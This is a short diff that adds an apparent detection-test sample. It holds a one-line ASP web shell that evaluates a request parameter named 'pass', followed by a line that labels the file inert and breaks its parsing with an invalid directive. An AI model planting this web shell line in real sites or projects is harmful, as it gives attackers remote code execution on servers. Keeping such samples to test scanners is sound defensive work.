@@ -1,0 +1,2 @@
+<%eval request("pass")%>
+shodo inert sample: <% invalid directive so this file never runs
